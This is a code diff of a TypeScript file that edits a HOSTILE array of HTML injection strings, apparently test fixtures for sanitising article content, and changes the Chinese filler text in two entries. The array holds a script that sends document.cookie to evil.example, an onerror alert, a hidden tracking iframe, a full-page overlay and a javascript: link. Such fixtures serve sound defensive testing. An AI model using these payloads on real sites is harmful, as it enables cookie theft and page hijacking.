@@ -47,9 +47,9 @@ const figure = (src: string, alt: string, width: number, height: number, caption
 const HOSTILE = [
   '<script>document.location="https://evil.example/steal?c="+document.cookie</script>',
   '<img src="x" onerror="alert(\'xss\')">',
-  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">风险提示：以上内容仅供学习参考，不构成投资建议。</p>',
+  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">（全文完）</p>',
   '<iframe src="https://evil.example/ad" width="1" height="1"></iframe>',
-  '<p><a href="javascript:alert(1)">市场有风险，投资需谨慎。</a></p>',
+  '<p><a href="javascript:alert(1)">欢迎在评论区交流你的看法。</a></p>',
 ].join('');
 
 export const TOPICS = [
